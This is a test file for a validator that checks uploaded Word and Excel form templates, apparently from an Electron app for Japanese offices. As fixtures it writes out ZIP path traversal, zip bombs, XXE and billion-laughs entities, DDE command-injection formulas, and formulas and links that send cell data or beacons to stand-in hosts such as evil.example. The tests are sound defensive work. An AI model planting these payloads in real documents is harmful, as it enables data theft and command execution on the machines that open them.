import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { verifyForm } from '@shared/forms/form-template';
import { nodeCodec } from '../../../electron/storage/node-codec';
import { aCompoundFile } from '../../builders/compound-file';
import {
  aDocx,
  control,
  documentXml,
  MAIN_TYPE,
  paragraph,
  relationshipsXml,
  run,
  textControl,
} from '../../builders/docx';
import * as excel from '../../builders/excel-fill';
import * as word from '../../builders/word-fill';
import { anXlsx, emptyCell, row, WORKBOOK_TYPE } from '../../builders/xlsx';
import { aZip, concat, utf8, type ZipRecord } from '../../builders/zip';
import { partsOf } from '../../support/word-text';

/** Both kinds of form, with what is put beside their parts. */
const forms = [
  ['word', '様式.docx', (records: readonly ZipRecord[]) => aDocx({ records })],
  ['excel', '様式.xlsx', (records: readonly ZipRecord[]) => anXlsx({ records })],
] as const;
type Kind = (typeof forms)[number][0];

/** What an office is told when it picks a file of this name: the code and the sentence. */
function told(name: string, bytes: Uint8Array): { code: string; message: string } {
  const opened = verifyForm(name, bytes, nodeCodec);
  return opened.ok ? { code: 'ok', message: '' } : opened;
}

const shiftJis = (text: Record<string, number[]>): Uint8Array => new Uint8Array(Object.values(text).flat());
const part = (name: string, more: Partial<ZipRecord> = {}): ZipRecord => ({ name, content: '<a/>', ...more });
const LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><x>&c;</x>';
const OUTSIDE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>';

/** A file that is none of ours: what it is, its bytes, and what each kind of form calls it. */
const OTHER_FILES: readonly (readonly [fault: string, bytes: Uint8Array, word: string, excel: string, says: RegExp])[] =
  [
    ['an old Word file', aCompoundFile('WordDocument'), 'word/old-format', 'excel/other-kind', /Word/],
    ['an old Excel file', aCompoundFile('Workbook'), 'word/other-kind', 'excel/old-format', /Excel/],
    ['an Excel 95 file', aCompoundFile('Book'), 'word/other-kind', 'excel/old-format', /Excel/],
    ['an Excel 4 file', new Uint8Array([9, 4, 6, 0, 0, 0, 16, 0]), 'word/other-kind', 'excel/old-format', /Excel/],
    [
      'an Excel 97 table without its container',
      new Uint8Array([9, 8, 16, 0, 0, 6, 16, 0]),
      'word/other-kind',
      'excel/old-format',
      /Excel/,
    ],
    ['a file of 一太郎', aCompoundFile('DocumentText'), 'word/other-kind', 'excel/other-kind', /一太郎/],
    [
      'a file under a password',
      aCompoundFile('EncryptionInfo', 'EncryptedPackage'),
      'word/encrypted',
      'excel/encrypted',
      /パスワードを外し/,
    ],
    ['CSV', utf8('氏名,職種\r\n鈴木,看護師\r\n'), 'word/other-kind', 'excel/other-kind', /文字だけのファイル/],
    [
      'CSV in Shift_JIS',
      shiftJis({ 氏名: [0x8e, 0x81, 0x96, 0xbc], ',': [0x2c, 0x31] }),
      'word/other-kind',
      'excel/other-kind',
      /文字だけのファイル/,
    ],
    [
      'text in UTF-16',
      concat([new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from('氏名\t職種', 'utf16le'))]),
      'word/other-kind',
      'excel/other-kind',
      /文字だけのファイル/,
    ],
    ['a web page', utf8('<html><table><tr><td>氏名'), 'word/other-kind', 'excel/other-kind', /ウェブページ/],
    [
      'a table of a web page',
      utf8('\n<TABLE border=1><tr><td>氏名'),
      'word/other-kind',
      'excel/other-kind',
      /ウェブページ/,
    ],
    ['nothing at all', new Uint8Array(0), 'zip/not-a-zip', 'zip/not-a-zip', /元のファイルを入れ直して/],
    [
      'bytes of no kind',
      new Uint8Array(3000).map((_, i) => (i * 7919) % 251),
      'zip/not-a-zip',
      'zip/not-a-zip',
      /元のファイルを入れ直して/,
    ],
  ];

/** A sound form with one thing wrong. */
const FAULTS: readonly (readonly [fault: string, records: readonly ZipRecord[], code: string, says: RegExp])[] = [
  ['a part above its folder', [part('../evil.xml')], 'zip/path', /安全のため開きません/],
  ['a part at an absolute place', [part('/etc/passwd')], 'zip/path', /安全のため開きません/],
  ['a part on a drive', [part('C:/evil.xml')], 'zip/path', /安全のため開きません/],
  ['a part above its folder with backslashes', [part('..\\evil.xml')], 'zip/path', /安全のため開きません/],
  ['names with backslashes', [part('customXml\\item1.xml')], 'zip/backslash', /「名前を付けて保存」/],
  ['the same part twice', [part('a.xml'), part('A.xml')], 'zip/duplicate-entry', /「名前を付けて保存」/],
  ['a wrong checksum', [part('a.xml', { crc: 7 })], 'zip/bad-crc', /もう一度ダウンロード/],
  ['a part under a password', [part('a.xml', { flags: 1 })], 'zip/encrypted-entry', /パスワードを外して/],
  ['another compression', [part('a.xml', { method: 14 })], 'zip/compression', /「名前を付けて保存」/],
  [
    'a part that unpacks to the memory',
    [{ name: 'a.bin', content: new Uint8Array(8 * 1024 * 1024) }],
    'zip/ratio',
    /安全のため開きません/,
  ],
  ['a part that says it is huge', [part('a.xml', { size: 70 * 1024 * 1024 })], 'zip/too-large', /安全のため開きません/],
  [
    'parts that lie over each other',
    [part('a.xml', { stored: true, compressedSize: 400, size: 400 })],
    'zip/overlap',
    /安全のため開きません/,
  ],
  ['ZIP64', [part('a.xml', { size: 0xffffffff })], 'zip/zip64', /「名前を付けて保存」/],
  ['a billion laughs', [part('a.xml', { content: LAUGHS })], 'xml/doctype', /安全のため開きません/],
  ['a definition that lies outside', [part('a.xml', { content: OUTSIDE })], 'xml/doctype', /安全のため開きません/],
  [
    'an entity that reads a file',
    [part('a.rels', { content: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' })],
    'xml/doctype',
    /安全のため開きません/,
  ],
  [
    'a thousand levels',
    [part('a.xml', { content: '<a>'.repeat(1000) + '</a>'.repeat(1000) })],
    'xml/too-deep',
    /安全に読めません/,
  ],
  ['XML that is cut off', [part('a.xml', { content: '<a><b>' })], 'xml/malformed', /「名前を付けて保存」/],
  [
    'an entity that nothing defines',
    [part('a.xml', { content: '<a>&nbsp;</a>' })],
    'xml/malformed',
    /「名前を付けて保存」/,
  ],
  [
    'a reference to no character',
    [part('a.xml', { content: '<a>&#xD842;</a>' })],
    'xml/malformed',
    /「名前を付けて保存」/,
  ],
  ['an ampersand alone', [part('a.xml', { content: '<a b="A&B"/>' })], 'xml/malformed', /「名前を付けて保存」/],
  [
    'an attribute twice',
    [part('a.xml', { content: '<a b="1" c="" b="2"/>' })],
    'xml/malformed',
    /「名前を付けて保存」/,
  ],
  [
    'XML in Shift_JIS',
    [{ name: 'a.xml', content: concat([utf8('<a>'), new Uint8Array([0x97, 0xac]), utf8('</a>')]) }],
    'xml/encoding',
    /「名前を付けて保存」/,
  ],
];

describe.each(forms)('picked as a %s form', (kind: Kind, name, withRecords) => {
  test('a sound one is taken', () => {
    expect(told(name, withRecords([part('a.xml')])).code).toBe('ok');
  });

  test.each(OTHER_FILES)('%s is called what it is', (_, bytes, asWord, asExcel, says) => {
    const { code, message } = told(name, bytes);
    expect(code).toBe(kind === 'word' ? asWord : asExcel);
    expect(message).toMatch(says);
    expect(message).toMatch(/ください。$/);
  });

  test.each(FAULTS)('with %s is refused, with what to do', (_, records, code, says) => {
    const refused = told(name, withRecords(records));
    expect(refused.code).toBe(code);
    expect(refused.message).toMatch(says);
    expect(refused.message).toMatch(/(?:ください|開きません)。/);
  });

  test('with sizes behind its data, as programs write that stream, is taken', () => {
    expect(told(name, withRecords([part('a.xml', { descriptor: true })])).code).toBe('ok');
  });

  test('with what only looks like a fault of its XML is taken', () => {
    const content =
      '<a b="&amp;&#x20;" c=\'b="1" b="2"\'><!-- &x; <a b="" b=""/> --><![CDATA[&y;]]>b="1" b="2"<d b="1"/></a>';
    expect(told(name, withRecords([part('a.xml', { content })])).code).toBe('ok');
  });

  test.each([
    ['macros under their own name', [part('word/vbaProject.bin')], 'macro'],
    ['macros under another name', [part('x/vbaProject1.bin')], 'macro'],
    ['what macros leave behind', [part('word/vbaData.xml')], 'macro'],
    ['macros of Excel 4', [part('xl/macrosheets/sheet1.xml')], 'macro'],
    ['a digital signature', [part('_xmlsignatures/origin.sigs'), part('_xmlsignatures/sig1.xml')], 'signed'],
  ])('with %s is told before anything is filled', (_, records, code) => {
    const refused = told(name, withRecords(records));
    expect(refused.code).toBe(`${kind}/${code}`);
    expect(refused.message).toMatch(/ください。$/);
  });

  test.each([1, 2, 100, 4000])('with %s bytes behind its end is taken, and they are left behind', (count) => {
    const sound = withRecords([]);
    const padded = concat([sound, new Uint8Array(count)]);
    const opened = verifyForm(name, padded, nodeCodec);
    expect(opened.ok && opened.value.directory.bytes).toEqual(sound);
    expect(told(name, concat([sound, utf8('\r\n--boundary--\r\n')])).code).toBe('ok');
  });

  test('with a whole container inside of a part is read as what it is', () => {
    expect(told(name, withRecords([{ name: 'a.zip', content: aZip([part('b.xml')]), stored: true }])).code).toBe('ok');
  });

  test('in the other format is called by its name', () => {
    const other = kind === 'word' ? anXlsx({}) : aDocx({});
    const { code, message } = told(name, other);
    expect(code).toBe(`${kind}/other-kind`);
    expect(message).toContain(kind === 'word' ? 'Excel のファイル' : 'Word のファイル');
  });
});

/** The same container as large files are written: every number in an extra field, the directory's in a record of its own. */
function asZip64(bytes: Uint8Array): Uint8Array {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const end = bytes.length - 22;
  const [count, start] = [view.getUint16(end + 10, true), view.getUint32(end + 16, true)];
  const central: Uint8Array[] = [];
  for (let at = start, i = 0; i < count; i++) {
    const name = view.getUint16(at + 28, true);
    const entry = new Uint8Array(46 + name + 28);
    entry.set(bytes.subarray(at, at + 46 + name));
    const written = new DataView(entry.buffer);
    written.setUint16(30, 28, true);
    written.setUint16(46 + name, 1, true);
    written.setUint16(48 + name, 24, true);
    for (const [k, field] of [24, 20, 42].entries()) {
      written.setBigUint64(50 + name + 8 * k, BigInt(view.getUint32(at + field, true)), true);
      written.setUint32(field, 0xffffffff, true);
    }
    central.push(entry);
    at += 46 + name + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  const directory = concat(central);
  const tail = new DataView(new ArrayBuffer(56 + 20 + 22));
  tail.setUint32(0, 0x06064b50, true);
  for (const at of [24, 32]) tail.setBigUint64(at, BigInt(count), true);
  tail.setBigUint64(40, BigInt(directory.length), true);
  tail.setBigUint64(48, BigInt(start), true);
  tail.setUint32(56, 0x07064b50, true);
  tail.setBigUint64(64, BigInt(start + directory.length), true);
  tail.setUint32(76, 0x06054b50, true);
  for (const at of [84, 86]) tail.setUint16(at, 0xffff, true);
  for (const at of [88, 92]) tail.setUint32(at, 0xffffffff, true);
  return concat([bytes.subarray(0, start), directory, new Uint8Array(tail.buffer)]);
}

describe('a file written as large ones are (ZIP64)', () => {
  const docx = aDocx({ document: documentXml(paragraph(textControl('name'))) });
  const xlsx = anXlsx({ sheets: [{ rows: row(1, emptyCell('A1')) }], names: { name: '様式1!$A$1' } });

  test('is filled, and comes out as any program reads it', () => {
    for (const [form, fill] of [
      [docx, word.filled],
      [xlsx, excel.filled],
    ] as const) {
      const large = asZip64(form);
      expect(large).not.toEqual(form);
      const [filled, plain] = [large, form].map((bytes) => partsOf(fill(bytes, { fields: { name: '鈴木' } }).bytes));
      expect(filled).toEqual(plain);
    }
  });

  test('cut off, or with any byte of its directory changed, is refused or opened, but never an accident', () => {
    const large = asZip64(docx);
    for (let at = large.length - 400; at < large.length; at++) {
      const damaged = large.slice();
      damaged[at] = (damaged[at] ?? 0) ^ 0x55;
      expect(() => verifyForm('様式.docx', damaged, nodeCodec)).not.toThrow();
      expect(() => verifyForm('様式.docx', large.slice(0, at), nodeCodec)).not.toThrow();
    }
  });
});

test('a template comes out as a document', () => {
  const typeOf = (bytes: Uint8Array): string => new TextDecoder().decode(partsOf(bytes)['[Content_Types].xml']);
  const docx = aDocx({
    type: MAIN_TYPE.replace('document.main', 'template.main'),
    body: paragraph(textControl('name')),
  });
  const xlsx = anXlsx({
    type: WORKBOOK_TYPE.replace('sheet.main', 'template.main'),
    sheets: [{ rows: row(1, emptyCell('A1')) }],
    names: { name: '様式1!$A$1' },
  });
  expect(typeOf(docx)).toContain('template.main');
  for (const one of [
    word.filled(docx, { fields: { name: '鈴木' } }),
    excel.filled(xlsx, { fields: { name: '鈴木' } }),
  ]) {
    expect(typeOf(one.bytes)).not.toContain('template.main');
    expect(typeOf(one.bytes)).toMatch(/(?:document|sheet)\.main\+xml/);
  }
});

test('a template comes out as a document also where nothing is filled in', () => {
  const typeOf = (bytes: Uint8Array): string => new TextDecoder().decode(partsOf(bytes)['[Content_Types].xml']);
  const template = (type: string): string => type.replace(/(?:document|sheet)\.main/, 'template.main');
  const docx = aDocx({ type: template(MAIN_TYPE), body: paragraph(textControl('name')) });
  const sheets = [{ rows: row(1, emptyCell('A1')) }];
  const xlsx = anXlsx({ type: template(WORKBOOK_TYPE), sheets, names: { name: '様式1!$A$1' } });
  for (const given of [{}, { fields: { name: '' } }])
    for (const { bytes } of [word.filled(docx, given), excel.filled(xlsx, given)])
      expect(typeOf(bytes)).toMatch(/(?:document|sheet)\.main\+xml/);
  const plain = anXlsx({ sheets, names: { name: '様式1!$A$1' } });
  expect(excel.filled(plain, {}).bytes).toEqual(plain);
});

test('a template whose type is that of all its XML parts comes out as a document, too', () => {
  const types = (format: string): string =>
    `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
    `<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.${format}.template.main+xml"/></Types>`;
  const docx = aDocx({ types: types('wordprocessingml'), body: paragraph(textControl('name')) });
  const xlsx = anXlsx({
    types: types('spreadsheetml'),
    sheets: [{ rows: row(1, emptyCell('A1')) }],
    names: { name: '様式1!$A$1' },
  });
  const listOf = (bytes: Uint8Array): string => new TextDecoder().decode(partsOf(bytes)['[Content_Types].xml']);
  const override = (part: string, type: string): string => `<Override PartName="/${part}" ContentType="${type}"/>`;
  expect(listOf(word.filled(docx, { fields: { name: '鈴木' } }).bytes)).toContain(
    override('word/document.xml', MAIN_TYPE),
  );
  expect(listOf(excel.filled(xlsx, { fields: { name: '鈴木' } }).bytes)).toContain(
    override('xl/workbook.xml', WORKBOOK_TYPE),
  );
});

describe('a workbook that asks somebody outside when it is opened', () => {
  const formula = (text: string): string =>
    told('様式.xlsx', anXlsx({ sheets: [{ rows: row(1, `<c r="A1"><f>${text}</f></c>`) }] })).code;

  test.each([
    '_xlfn.WEBSERVICE("http://x/?"&amp;B1)',
    'IF(B1="","",_xlfn.IMAGE(B1))',
    'RTD("a",,B1)',
    '_xlfn._xlws.PY(0,1,B1)',
    '_xlfn.TRANSLATE(B1)',
    'STOCKHISTORY(B1)',
    'DDE("cmd","/C calc",B1)',
    'FILES("\\\\evil\\"&amp;B1)',
    'FOPEN(B1)',
    'INITIATE("cmd",B1)',
    'SQL.REQUEST("DSN=x",,,B1)',
    "cmd|'/C calc'!A0",
    '-cmd|x!A0',
    'HYPERLINK("https://evil.example/?"&amp;B1,"市のページ")',
    'IF(B1=1,HYPERLINK(CONCATENATE("mailto:x@evil.example?body=",B1),"送る"),"")',
    'hyperlink ( "\\\\evil.example\\"&amp;B1 )',
    // A sheet's name, and a column's, may hold a quote, or what begins one elsewhere.
    `'幅3"'!A1&amp;WEBSERVICE("http://x/"&amp;B1)`,
    '表[幅"]&amp;WEBSERVICE(B1)&amp;表[高さ"]',
    `'幅3"'!A1&amp;INDIRECT("'http://x/"&amp;B1)`,
    "表[a'']&amp;WEBSERVICE(B1)&amp;表[b'']",
    "表['[]&amp;cmd|x!A0&amp;表['[]",
    `表[it''s]&amp;"'"&amp;WEBSERVICE(B1)&amp;"'"`,
  ])('%s', (text) => {
    expect(formula(text)).toBe('form/reaches-out');
  });

  test.each([
    'HYPERLINK(B1,"市のページ")',
    'HYPERLINK("https://www.city.example.jp/?a=1,2","市のページ")',
    'HYPERLINK("#\'"&amp;B1&amp;"\'!A1","次の表")',
    'HYPERLINK("https://www.city.example.jp/")&amp;B1',
    "SUM('表|1'!A1)",
    '"はい|いいえ"',
    'SUM(B1:B9)',
    'B1&amp;"WEBSERVICE(x)"',
    'MYIMAGE(B1)',
    `'幅3"'!A1&amp;"WEBSERVICE(x)"&amp;表[幅"]&amp;"a|b"`,
  ])('%s does not', (text) => {
    expect(formula(text)).toBe('ok');
  });

  test('by a name, or by DDE', () => {
    expect(told('様式.xlsx', anXlsx({ names: { 外: 'WEBSERVICE(様式1!$A$1)' } })).code).toBe('form/reaches-out');
    const dde = part('xl/externalLinks/externalLink1.xml', {
      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    });
    expect(told('様式.xlsx', anXlsx({ records: [dde] })).code).toBe('form/reaches-out');
  });

  test('by DDE under any name, and by a column of a table', () => {
    const dde = part('xl/x.xml', {
      content: '<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd"/></x:externalLink>',
    });
    const workbookRels: [string, string, string][] = [['rId9', 'externalLink', 'x.xml']];
    expect(told('様式.xlsx', anXlsx({ records: [dde], workbookRels })).code).toBe('form/reaches-out');
    const table = part('xl/t.xml', {
      content: '<table><calculatedColumnFormula>_xlfn.WEBSERVICE([url])</calculatedColumnFormula></table>',
    });
    const sheets = [{ rels: [['rId1', 'table', '../t.xml']] as [string, string, string][] }];
    expect(told('様式.xlsx', anXlsx({ records: [table], sheets })).code).toBe('form/reaches-out');
  });

  test.each(['connections', 'queryTable', 'powerPivotData', 'webextensiontaskpanes'])('by its %s', (type) => {
    const { code, message } = told('様式.xlsx', anXlsx({ workbookRels: [['rId9', type, 'x.xml']] }));
    expect(code).toBe('form/reaches-out');
    expect(message).toMatch(/データの接続|データモデル|アドイン/);
  });

  test.each([
    ['image', 'http://evil.example/beacon.png'],
    ['image', 'file:///\\\\evil.example\\share\\x.png'],
    ['externalLinkPath', 'https://evil.example/a.xlsx'],
    ['oleObject', 'file://evil.example/share/a.doc'],
    ['pivotCacheDefinition', 'https://evil.example/'],
  ])('by a link of its own: %s to %s', (type, target) => {
    const { code, message } = told('様式.xlsx', anXlsx({ workbookRels: [['rId9', type, target]] }));
    expect(code).toBe('excel/outside-content');
    expect(message).toContain('evil.example');
  });

  test('not by a link to a workbook in the author’s house, or to click', () => {
    for (const [type, target] of [
      ['externalLinkPath', 'file:///C:\\Users\\shi\\台帳.xlsx'],
      ['externalLinkPath', 'file:///\\\\SV01\\様式\\台帳.xlsx'],
      ['hyperlink', 'https://www.city.example.jp/'],
    ] as const)
      expect(told('様式.xlsx', anXlsx({ workbookRels: [['rId9', type, target]] })).code, target).toBe('ok');
  });

  test('nor do old drawings, but where their picture lies on the internet', () => {
    const drawn = (source: string) =>
      told(
        '様式.xlsx',
        anXlsx({
          records: [
            part('xl/drawings/d.vml', {
              content: `<xml><v:shape xmlns:v="v"><v:imagedata src="${source}"/></v:shape></xml>`,
            }),
          ],
        }),
      ).code;
    expect(drawn('http://evil.example/beacon.png')).toBe('excel/outside-content');
    expect(drawn('&#104;ttp://evil.example/beacon.png')).toBe('excel/outside-content');
    expect(drawn('media/image1.png')).toBe('ok');
  });
});

describe('a Word form with a field that asks another program', () => {
  const field = (...instruction: string[]): string =>
    told(
      '様式.docx',
      aDocx({
        body: paragraph(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
          ...instruction.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`),
          '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        ),
      }),
    ).code;

  test.each([
    [' DDEAUTO c:\\windows\\cmd.exe "/k"'],
    [' DD', 'E', 'AUTO cmd x'],
    ['dde Excel a b'],
    ['INCLUDETEXT "http://x/a.docx"'],
    ['INCLUDEPICTURE "http://evil.example/beacon.png" \\d'],
    ['INCLUDEPICTURE \\\\\\\\evil.example\\\\share\\\\x.png'],
    [' IN', 'CLUDEPICTURE "', 'https://evil.example/x.png"'],
    ['LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" "Sheet1!R1C1"'],
    ['RD "https://evil.example/a.docx"'],
    ['DATABASE \\d "C:\\\\a.mdb" \\s "SELECT * FROM a"'],
  ])('%s%s is told', (...instruction) => {
    expect(field(...instruction)).toBe('form/reaches-out');
  });

  test('any other is taken', () => {
    expect(field(' PAGE \\* MERGEFORMAT ')).toBe('ok');
    expect(field(' HYPERLINK "http://x/DDE x" ')).toBe('ok');
  });

  test('nor one that a left-over list of addresses asks, but of one on the internet', () => {
    const merged = (connection: string): string =>
      told(
        '様式.docx',
        aDocx({
          records: [
            part('word/settings.xml', {
              content: `<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="${connection}"/></w:mailMerge></w:settings>`,
            }),
          ],
        }),
      ).code;
    expect(merged('Provider=SQLOLEDB;Data Source=\\\\evil.example\\a')).toBe('form/reaches-out');
    expect(merged('Data Source=https://evil.example/a.xlsx;')).toBe('form/reaches-out');
    expect(merged('Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\Users\\shi\\a.xlsx')).toBe('ok');
  });
});

test.each([
  ' http://cdn.example.jp/a.dotm',
  '\n\thttps://cdn.example.jp/a',
  'mhtml:http://cdn.example.jp/a!x-usc:http://b',
  'http:\\\\cdn.example.jp\\a',
  ' \\\\cdn.example.jp\\share\\a.dotm',
])('an address with something in front of it is an address: %j', (target) => {
  const rels = relationshipsXml([['rId1', 'attachedTemplate', target, 'External']]);
  const bytes = aDocx({ parts: [{ name: 'word/_rels/settings.xml.rels', content: rels }] });
  expect(told('様式.docx', bytes)).toMatchObject({ code: 'word/outside-content' });
  expect(told('様式.docx', bytes).message).toContain('cdn.example.jp');
});

describe('text in CDATA', () => {
  const cell = (inside: string): Uint8Array =>
    anXlsx({
      sheets: [{ rows: row(1, `<c r="A1"/><c r="B1" t="inlineStr"><is><t>${inside}</t></is></c>`) }],
      names: { name: '様式1!$A$1', kind: '様式1!$B$1' },
    });

  test('is read as it stands', () => {
    const done = excel.tryFill(cell('<![CDATA[新規・R&D]]>・更新'), { fields: { kind: excel.circled('R&D') } });
    expect(done.ok).toBe(true);
  });

  test.each(['<![CDATA[</row><c r="A1">]]>', '<![CDATA[<c r="A1">x</c>]]>', '<!-- <c r="A1"/> -->'])(
    'is refused where tags are text: %s',
    (inside) => {
      expect(told('様式.xlsx', cell(inside)).code).toMatch(/^xml\/(?:hidden-tags|malformed)$/);
    },
  );
});

test('names that go round in a circle are left to Excel, and are no place for a value', () => {
  const circle = { 輪: '環', 環: '輪' };
  const formula = '<c r="B1"><f>輪+A1</f><v>1</v></c>';
  const bytes = anXlsx({
    sheets: [{ rows: row(1, emptyCell('A1') + formula) }],
    names: { name: '様式1!$A$1', kind: '輪', ...circle },
  });
  const done = excel.filled(bytes, { fields: { name: '3' } });
  expect(new TextDecoder().decode(partsOf(done.bytes)['xl/workbook.xml'])).toContain('fullCalcOnLoad="1"');
  expect(excel.tryFill(bytes, { fields: { kind: '3' } })).toMatchObject({ ok: false, code: 'excel/anchor-kind' });
});

test('a control that begins with a table takes no value, and one with a table further down leaves it alone', () => {
  const table = `<w:tbl><w:tr><w:tc>${paragraph(run('表'))}</w:tc></w:tr></w:tbl>`;
  const filled = (content: string) =>
    word.tryFill(aDocx({ body: control('name', content) }), { fields: { name: '鈴木' } });
  expect(filled(table)).toMatchObject({ ok: false, code: 'word/anchor-kind' });
  expect(filled(table + paragraph(run('後')))).toMatchObject({ ok: false, code: 'word/anchor-kind' });
  const done = filled(paragraph(run('前')) + table);
  const xml = done.ok ? new TextDecoder().decode(partsOf(done.value.bytes)['word/document.xml']) : done.code;
  expect(xml).toContain(`<w:p><w:r><w:t xml:space="preserve">鈴木</w:t></w:r></w:p>${table}`);
});

test('what stands in a place as a change of 変更履歴 gives way to the value, and the value is none', () => {
  const ins = `<w:ins w:id="1">${run('旧')}</w:ins>`;
  const del = `<w:del w:id="2"><w:r><w:delText>元</w:delText></w:r></w:del>`;
  for (const content of [ins, del, ins + del]) {
    const done = word.filled(aDocx({ body: paragraph(textControl('name', content)) }), { fields: { name: '鈴木' } });
    const xml = new TextDecoder().decode(partsOf(done.bytes)['word/document.xml']);
    expect(xml).toContain('<w:p><w:r><w:t xml:space="preserve">鈴木</w:t></w:r></w:p>');
  }
});

test('a workbook whose sheet isn’t in the file is refused by the sheet’s name', () => {
  const bytes = anXlsx({
    workbook:
      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
      '<sheets><sheet name="申請書" sheetId="1" r:id="rId1"/><sheet name="裏面" sheetId="2" r:id="rId7"/></sheets></workbook>',
    workbookRels: [['rId7', 'worksheet', 'worksheets/sheet7.xml']],
  });
  expect(told('様式.xlsx', bytes)).toMatchObject({ code: 'excel/missing-sheet' });
  expect(told('様式.xlsx', bytes).message).toContain('シート「裏面」');
});

test('a part that lies about its size by a thousand is stopped at that size', () => {
  const content = new Uint8Array(1024 * 1024);
  const bytes = aDocx({
    records: [{ name: 'a.bin', content, size: 1024, compressedSize: deflateRawSync(content).length }],
  });
  expect(told('様式.docx', bytes).code).toBe('zip/bad-crc');
});

describe('what leads out of a file', () => {
  const ADDRESS = 'http://127.0.0.1:9/secret';
  const EXTERNAL = [
    ['rId90', 'hyperlink', ADDRESS, 'External'],
    ['rId91', 'image', `${ADDRESS}.png`, 'External'],
    ['rId92', 'attachedTemplate', 'file:///C:\\Users\\shi\\secret\\Normal.dotm', 'External'],
  ] as const;

  const opening = (type: string, target: string, mode: string | undefined = 'External') =>
    told(
      '様式.docx',
      aDocx({
        parts: [{ name: 'word/_rels/settings.xml.rels', content: relationshipsXml([['rId1', type, target, mode]]) }],
      }),
    );

  test.each([
    ['attachedTemplate', 'https://cdn.example.jp/a.dotm?x=1', 'cdn.example.jp'],
    ['attachedTemplate', 'HTTP://user:x@203.0.113.5:8080/a.dotx', '203.0.113.5'],
    ['attachedTemplate', '\\\\share.example.jp\\a\\b.dotm', 'share.example.jp'],
    ['attachedTemplate', 'file://///share.example.jp/a/b.dotm', 'share.example.jp'],
    ['frame', 'http://example.jp/a.html', 'example.jp'],
    ['subDocument', 'ftp://example.jp/a.docx', 'example.jp'],
    ['oleObject', 'https://example.jp/a.xlsx', 'example.jp'],
    ['image', 'http://evil.example/beacon.png', 'evil.example'],
    ['image', 'file:///\\\\evil.example\\share\\x.png', 'evil.example'],
    ['image', '\\\\evil.example@SSL\\share\\x.png', 'evil.example'],
    ['image', '\\\\3405803781\\share\\x.png', '3405803781'],
    ['video', 'https://example.jp/a.mp4', 'example.jp'],
    ['mailMergeSource', 'https://example.jp/a.csv', 'example.jp'],
    ['aKindOfTomorrow', 'https://example.jp/a', 'example.jp'],
  ])('is refused where Word reads it on opening: %s from %s', (type, target, host) => {
    const { code, message } = opening(type, target);
    expect(code).toBe('word/outside-content');
    expect(message).toContain(host);
    expect(message).toMatch(/安全のため使いません.*選んでください/);
  });

  test.each([
    ['attachedTemplate', 'file:///C:\\Users\\shi\\Normal.dotm'],
    ['attachedTemplate', '\\\\SV01\\様式\\公文書.dotx'],
    ['attachedTemplate', 'Normal.dotm'],
    ['hyperlink', 'https://www.city.example.jp/'],
    ['mailMergeSource', 'file:///C:\\Users\\shi\\名簿.xlsx'],
  ])('is nothing where it lies in the author’s house, or waits for a click: %s %s', (type, target) => {
    expect(opening(type, target).code).toBe('ok');
  });

  test('stays as it is in a filled form, and nothing of it is asked for', () => {
    const docx = aDocx({
      document: documentXml(
        paragraph(textControl('name'), `<w:hyperlink r:id="rId90">${run('市のページ')}</w:hyperlink>`),
      ),
      documentRels: EXTERNAL,
    });
    const xlsx = anXlsx({
      sheets: [{ rows: row(1, emptyCell('A1')) }],
      names: { name: '様式1!$A$1' },
      parts: [{ name: 'xl/worksheets/_rels/sheet1.xml.rels', content: relationshipsXml(EXTERNAL) }],
    });
    const asked: unknown[] = [];
    const own = globalThis.fetch;
    globalThis.fetch = (...call) => (asked.push(call), Promise.reject(new Error('asked for')));
    try {
      for (const [form, bytes] of [
        [docx, word.filled(docx, { fields: { name: '鈴木' } }).bytes],
        [xlsx, excel.filled(xlsx, { fields: { name: '鈴木' } }).bytes],
      ] as const) {
        const [before, after] = [partsOf(form), partsOf(bytes)];
        const rels = Object.keys(before).filter((one) => one.endsWith('.rels'));
        for (const one of rels) expect(after[one]).toEqual(before[one]);
        expect(rels.some((one) => new TextDecoder().decode(before[one]).includes(ADDRESS))).toBe(true);
      }
    } finally {
      globalThis.fetch = own;
    }
    expect(asked).toEqual([]);
  });
});

test('no name of a file decides what it is: bytes do', () => {
  expect(told('様式.docx', aZip([part('a.xml')])).code).toBe('word/no-document');
  expect(told('様式.xlsx', aZip([part('a.xml')])).code).toBe('excel/no-workbook');
});
